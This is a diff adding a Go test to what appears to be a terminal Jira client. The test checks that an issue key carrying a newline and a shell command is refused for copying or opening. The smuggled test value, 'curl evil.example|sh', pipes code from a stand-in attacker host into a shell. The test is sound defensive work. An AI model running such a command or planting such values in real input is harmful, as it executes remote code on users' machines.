@@ -411,3 +411,24 @@ func TestRangeShowsSelected(t *testing.T) {
 		t.Fatalf("the range selected %q", got)
 	}
 }
+
+// TestDetailRefusesForeignKey: the detail of an issue whose key is not a
+// Jira key never copies or opens it ("HOS-2\ncurl evil.example|sh" pasted
+// into a shell would run), and says why.
+func TestDetailRefusesForeignKey(t *testing.T) {
+	m := ready(t, 100, 30, 5, Options{})
+	bad := "HOS-2\ncurl evil.example|sh"
+	is := *m.list.Current()
+	is.Key = bad
+	m = upd(t, m, list.OpenMsg{Key: bad, Issue: &is})
+	if m.state != stateDetail {
+		t.Fatalf("state %v", m.state)
+	}
+	for _, k := range []string{"y", "Y", "o"} {
+		_, cmd := m.Update(press(k))
+		msg := await(t, cmd, isNotice)
+		if msg == nil || !strings.Contains(msg.(common.NoticeMsg).Text, "not a valid key") {
+			t.Fatalf("%s on %q: %v", k, bad, msg)
+		}
+	}
+}
